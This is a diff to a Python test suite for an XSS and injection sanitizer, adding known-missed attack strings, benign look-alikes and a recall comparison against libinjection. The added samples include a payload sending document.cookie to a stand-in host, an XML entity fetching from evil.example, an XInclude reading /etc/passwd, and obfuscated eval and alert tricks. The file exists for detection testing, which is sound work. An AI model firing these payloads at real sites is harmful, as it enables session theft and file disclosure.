@@ -11,7 +11,7 @@ from pathlib import Path
 
 import libinjection
 import pytest
-from testkit.corpora import chatgpt_prompts, crs_attacks, short_inputs, split_of
+from testkit.corpora import chatgpt_prompts, crs_attacks, seclists_xss, short_inputs, split_of
 
 from inferbus.services.sanitizer.injection import findings
 from inferbus.services.sanitizer.normalize import decoded
@@ -84,6 +84,37 @@ MISSED_BEFORE = {
     "top['al\\145rt'](1)": "xss.global-obfuscated",
     '<svg><set attributeName="xlink:href" to="javascript:alert(1)"/></svg>': "xss.svg-set",
     "<iframe src=mhtml:http://evil.example/x.gif!xss.html></iframe>": "xss.mhtml",
+    # shapes from the CRS dev split, 2026-12-03
+    "\\xd0\\xbcscript\\xd0\\xbealert(1)\\xd0\\xbc/script\\xd0\\xbe": "xss.malformed-encoding",
+    "<STYLE>@\\69mport url(//evil/x.css)</STYLE>": "xss.style-code",
+    '<aai xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://a.b/ '
+    'http://c5ipg3yqo8lcutvn8bghsptofflee424qxdq1f.example.bar/aai.xsd">aai</aai>': (
+        "xss.schema-callback"
+    ),
+    # from SecLists' and PayloadsAllTheThings' dev splits, 2026-12-03
+    "<sCriPt x>(((confirm)))``</scRipt x>": "xss.script-body",
+    '<!DOCTYPE x[<!ENTITY x SYSTEM "http://evil.example/x.xxe">]><y>&x;</y>': "xss.xml-entity",
+    '<!DOCTYPE x [<!ATTLIST img src CDATA "x" onerror CDATA "alert(1)">]><img />': (
+        "xss.xml-entity"
+    ),
+    '<xi:include href="file:///etc/passwd" parse="text"/>': "xss.xml-entity",
+    '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="t.evt#x"/>': (
+        "xss.xml-events"
+    ),
+    '<link rel="import" href="test.svg" />': "xss.html-import",
+    "a=/ev/ .source a+=/al/ .source,a = a[a] a(name)": "xss.regex-source",
+    "s1=['java'+''+''+'scr'+'ipt'+':'+'aler'+'t'+'(1)'];": "xss.js-scheme-code",
+    "a=0||'ev'+'al',b=0||location.hash,1[a](b)": "xss.joined-sink",
+    "<div/style=\\-\\mo\\z\\-b\\i\\nd\\in\\g:\\url(//evil.example/xbl.xml#xss)>": "xss.css-binding",
+    "<x/style=-m\\0o\\0z\\0-b\\0i\\0nd\\0i\\0n\\0g\\0:\\0u\\0r\\0l\\0(//e/x)>": ("xss.css-binding"),
+    '<a href="data:application/x-x509-user-cert;&NewLine;base64&NewLine;,'
+    'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">X</a>': "xss.base64-markup",
+    '<XML SRC="xsstest.xml" ID=I></XML>': "xss.legacy-tag",
+    '<IMG SRC="livescript:[code]">': "xss.js-url",
+    "';alert(String.fromCharCode(88,83,83))//": "xss.js-breakout",
+    'x";location="//evil.example/"+document.cookie': "xss.js-breakout-location",
+    'this["alert"](1)': "xss.global-access",
+    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389">': "xss.frame",
 }
 
 STILL_PASS = [
@@ -118,6 +149,18 @@ STILL_PASS = [
     "in 5 minutes",
     "Write a regular expression (regex) that matches dates.",
     "background: url(data:image/png;base64,iVBORw0KGgo=)",
+    # near the 2026-12-03 shapes: a project's schemas, markdown code, prose, string joins
+    '<project xmlns="http://maven.apache.org/POM/4.0.0" '
+    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
+    'xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 '
+    'https://maven.apache.org/xsd/maven-4.0.0.xsd">',
+    "Use `<script setup>` for concise logic\n- Implement `<Suspense>` and async components",
+    "\u041f\u0438\u0448\u0435\u043c script \u043d\u0430 Python",  # "Пишем script на Python"
+    'He said "go"; location = Paris is nice',
+    'print("Hello " + "world")',
+    "x = 'eval' if debug else 'run'",
+    "Open C:\\styles\\new\\base.css and fix the style of the header",
+    '<link rel="stylesheet" href="https://cdn.example.com/bootstrap.min.css">',
 ]
 
 
@@ -166,6 +209,15 @@ def test_crs_payloads_dev_split_at_least_twice_libinjections_recall(kind):
     assert ours >= 2 * theirs, (ours, theirs)
 
 
+def test_seclists_xss_dev_split_above_libinjections_recall():
+    """SecLists' XSS lists, a source the rules were not written from (its dev half
+    read once, on 2026-12-03): recall kept clear of libinjection's."""
+    lines = seclists_xss("dev")
+    assert len(lines) > 200
+    ours, theirs = _recall(lines, findings), _recall(lines, _libinjection)
+    assert ours >= 1.3 * theirs, (ours, theirs)
+
+
 def test_ordinary_prompts_dev_split_under_one_percent_blocked():
     benign = [x for x in chatgpt_prompts("dev") if x["label"] == 0]
     assert len(benign) > 500
@@ -193,7 +245,7 @@ def test_every_match_of_a_rule_holds_one_of_its_needles():
     every match of its pattern holds one. Checked on every corpus line's matches."""
     from inferbus.services.sanitizer.checks import prompt, sql, xss
 
-    texts = [x["text"] for x in crs_attacks("all") + chatgpt_prompts("dev")]
+    texts = [x["text"] for x in crs_attacks("all") + chatgpt_prompts("dev") + seclists_xss("dev")]
     texts += [r["text"] for r in devset()] + list(MISSED_BEFORE)
     for module, rules in (
         (xss, (*xss._XSS_ANYWHERE, *xss._XSS_RULES)),
